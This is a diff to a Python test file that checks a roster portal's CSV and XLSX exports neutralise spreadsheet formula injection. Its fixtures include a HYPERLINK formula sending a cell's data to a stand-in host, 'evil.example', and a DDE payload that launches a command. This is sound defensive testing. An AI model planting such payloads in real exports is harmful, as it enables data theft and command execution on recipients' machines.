@@ -13,6 +13,7 @@ from openpyxl import load_workbook
 from roster.exports import spreadsheet_safe
 
 from .conftest import AuthActions, IsolatedClient
+from .portal_copies import download_copy
 
 ATTACKS = {
     "name": '=HYPERLINK("http://evil.example/?d="&B4,"詳細")',
@@ -58,7 +59,7 @@ def test_the_csv_writes_formula_text_as_quoted_text(
     client: IsolatedClient, auth: AuthActions, attacker: dict[str, Any]
 ) -> None:
     auth.login("t_partner")
-    text = client.post("/portal/export.csv").get_data().decode("utf-8-sig")
+    text = download_copy(client, "csv").get_data().decode("utf-8-sig")
     cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
     for value in ATTACKS.values():
         assert "'" + value in cells, value
@@ -69,7 +70,7 @@ def test_the_xlsx_stores_formula_text_as_strings_never_as_formulas(
     client: IsolatedClient, auth: AuthActions, attacker: dict[str, Any]
 ) -> None:
     auth.login("t_partner")
-    data = client.post("/portal/export.xlsx").get_data()
+    data = download_copy(client, "xlsx").get_data()
     sheet = load_workbook(io.BytesIO(data)).active
     cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
@@ -94,8 +95,8 @@ def test_the_watermark_is_quoted_too_when_an_organisation_name_starts_like_a_for
     world["organisation"].name = "=cmd|' /C calc'!A0"
     db.flush()
     auth.login("t_partner")
-    text = client.post("/portal/export.csv").get_data().decode("utf-8-sig")
+    text = download_copy(client, "csv").get_data().decode("utf-8-sig")
     first = next(csv.reader(io.StringIO(text)))
     assert first[0].startswith("'=cmd")
-    sheet = load_workbook(io.BytesIO(client.post("/portal/export.xlsx").get_data())).active
+    sheet = load_workbook(io.BytesIO(download_copy(client, "xlsx").get_data())).active
     assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith("'=cmd")
